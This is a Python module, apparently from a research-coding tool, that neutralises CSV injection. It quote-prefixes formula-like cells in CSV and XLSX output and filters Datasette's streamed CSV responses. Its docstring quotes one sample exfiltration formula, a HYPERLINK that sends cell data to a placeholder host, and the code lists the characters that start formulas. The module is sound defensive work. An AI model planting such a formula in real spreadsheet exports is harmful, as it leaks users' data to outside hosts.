"""Cells a spreadsheet will not execute.

A transcript line such as ``=HYPERLINK("http://x/?"&A1)`` becomes a live formula
when a quote table is opened in Excel or LibreOffice (CSV injection). We follow
OWASP's advice: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return gets a leading single quote in CSV, and in XLSX it is
written as a text cell (openpyxl would otherwise store any string starting with
``=`` as a formula), with the same quote prefix Excel adds when one types
``'=``. Numbers stay numbers, negative ones included. JSON is not opened by
spreadsheets and is left as it is.

Every CSV and XLSX qualcode writes goes through these functions, and so does
the CSV Datasette serves (see :func:`safe_csv_app`, hooked in ``publish.py``).
"""

from __future__ import annotations

import codecs
from copy import copy
import csv
import io
import re
from typing import Any, Awaitable, Callable

#: How a formula (or a DDE payload) can start, per OWASP's CSV injection page.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
#: How a cell of CSV records might start with one of them, as bytes: after a comma or a
#: newline, quoted or not. A CR is always quoted by a CSV writer, so ``,\r`` is only a record
#: ending in an empty cell. A superset (a comma or newline inside quotes matches too),
#: checked with substring searches, which cost far less than a regex.
_CELL_STARTS = tuple(sep + c for sep in (b",", b"\n") for c in (b"=", b"+", b"-", b"@", b"\t")) + tuple(
    sep + b'"' + c for sep in (b",", b"\n") for c in (b"=", b"+", b"-", b"@", b"\t", b"\r"))
_RECORD_STARTS = (b"=", b"+", b"-", b"@", b"\t", b'"=', b'"+', b'"-', b'"@', b'"\t', b'"\r')


def csv_cell(value: Any) -> Any:
    """A value for a CSV cell: text that starts like a formula gets a leading ``'``.
    Numbers are left alone, negative ones included, whether they come as ints and floats
    or as text that is nothing but a number (``-3``, ``1e-05``: Datasette's CSV, an
    attribute read from a manifest), since a bare number cannot be a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def xlsx_cell(sheet: Any, value: Any, style: Any = None) -> Any:
    """A value for a write-only openpyxl sheet: every string becomes a text cell, never a
    formula, and one that starts like a formula also gets Excel's quote prefix, so
    editing the cell in Excel does not turn it into one either. Text is kept exactly.
    ``style`` (from :func:`xlsx_style`) is layout only, such as wrapped text."""
    if not isinstance(value, str) and style is None:
        return value
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    if style is not None:
        cell._style = copy(style)  # a copy: the quote prefix below is part of the cell's own style
    if isinstance(value, str):
        cell.data_type = "s"
        if value.startswith(FORMULA_START):
            cell.quotePrefix = True
    return cell


def xlsx_style(sheet: Any, **alignment: Any) -> Any:
    """A cell style for :func:`xlsx_cell`, built once per sheet: setting an ``Alignment`` on
    each of thousands of cells looks it up in the workbook every time and doubles the time
    a quote table takes to write."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Alignment

    cell = WriteOnlyCell(sheet)
    cell.alignment = Alignment(**alignment)
    return cell._style


class SafeCsvStream:
    """Rewrites a UTF-8 CSV byte stream cell by cell as it passes, however it is chunked:
    only complete records (ending in a newline outside quotes) are rewritten, the rest
    waits for the next chunk."""

    def __init__(self) -> None:
        self._decoder = codecs.getincrementaldecoder("utf-8")("surrogateescape")
        self._pending = ""

    def feed(self, data: bytes, final: bool = False) -> bytes:
        if (not self._pending and not self._decoder.getstate()[0] and data.endswith(b"\n")
                and data.count(b'"') % 2 == 0 and not _may_start_formula(data)):
            return data  # whole records with nothing to neutralise: most rows, passed through as they are
        text = self._pending + self._decoder.decode(data, final)
        end = len(text) if final else _records_end(text)
        self._pending = text[end:]
        if not end:
            return b""
        out = io.StringIO()
        writer = csv.writer(out)  # the dialect Datasette writes with
        for row in csv.reader(io.StringIO(text[:end], newline="")):
            writer.writerow([csv_cell(cell) for cell in row])
        return out.getvalue().encode("utf-8", "surrogateescape")


def _may_start_formula(records: bytes) -> bool:
    """Whether a cell of these whole records (a chunk Datasette wrote) might need neutralising."""
    return records.startswith(_RECORD_STARTS) or any(start in records for start in _CELL_STARTS)


def _records_end(text: str) -> int:
    """Where the last complete record ends: after a newline with an even number of quotes before it."""
    if text.endswith("\n") and text.count('"') % 2 == 0:
        return len(text)  # the usual case: Datasette writes one record per chunk
    end = text.rfind("\n")
    while end >= 0 and text.count('"', 0, end) % 2:
        end = text.rfind("\n", 0, end)
    return end + 1


ASGIApp = Callable[[dict, Callable, Callable], Awaitable[None]]


def safe_csv_app(app: ASGIApp) -> ASGIApp:
    """Wrap an ASGI app so that its successful ``.csv`` responses (Datasette's CSV of any
    table, view or query, streamed or not) pass through :class:`SafeCsvStream`."""

    async def wrapped(scope: dict, receive: Callable, send: Callable) -> None:
        if scope.get("type") != "http" or not scope.get("path", "").endswith(".csv"):
            await app(scope, receive, send)
            return
        stream: SafeCsvStream | None = None

        async def safe_send(message: dict) -> None:
            nonlocal stream
            if message["type"] == "http.response.start":
                headers = message.get("headers") or []
                kind = next((v for k, v in headers if k.lower() == b"content-type"), b"")
                if message.get("status") == 200 and kind.startswith((b"text/csv", b"text/plain")):
                    stream = SafeCsvStream()  # escaping changes the length, so drop any stated length
                    message = {**message, "headers": [(k, v) for k, v in headers if k.lower() != b"content-length"]}
            elif message["type"] == "http.response.body" and stream is not None:
                more = message.get("more_body", False)
                message = {**message, "body": stream.feed(message.get("body", b""), final=not more)}
            await send(message)

        await app(scope, receive, safe_send)

    return wrapped
